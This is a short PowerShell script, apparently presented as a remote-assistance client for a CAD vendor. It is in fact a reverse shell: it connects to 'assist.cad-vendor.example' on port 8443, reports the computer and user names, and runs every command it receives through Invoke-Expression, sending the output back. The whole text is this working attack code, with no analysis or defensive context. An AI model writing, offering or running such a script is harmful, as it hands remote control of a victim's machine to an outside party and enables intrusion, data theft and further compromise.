$server = 'assist.cad-vendor.example'
$port = 8443
$client = New-Object System.Net.Sockets.TcpClient($server, $port)
$stream = $client.GetStream()
$reader = New-Object System.IO.StreamReader($stream)
$writer = New-Object System.IO.StreamWriter($stream)
$writer.AutoFlush = $true
$writer.WriteLine("ASSIST $env:COMPUTERNAME $env:USERNAME")
while ($client.Connected) {
  $line = $reader.ReadLine()
  if ($null -eq $line -or $line -eq 'exit') { break }
  try { $out = Invoke-Expression $line 2>&1 | Out-String } catch { $out = $_.Exception.Message }
  $writer.WriteLine($out + 'PS ' + (Get-Location).Path + '> ')
}
$client.Close()
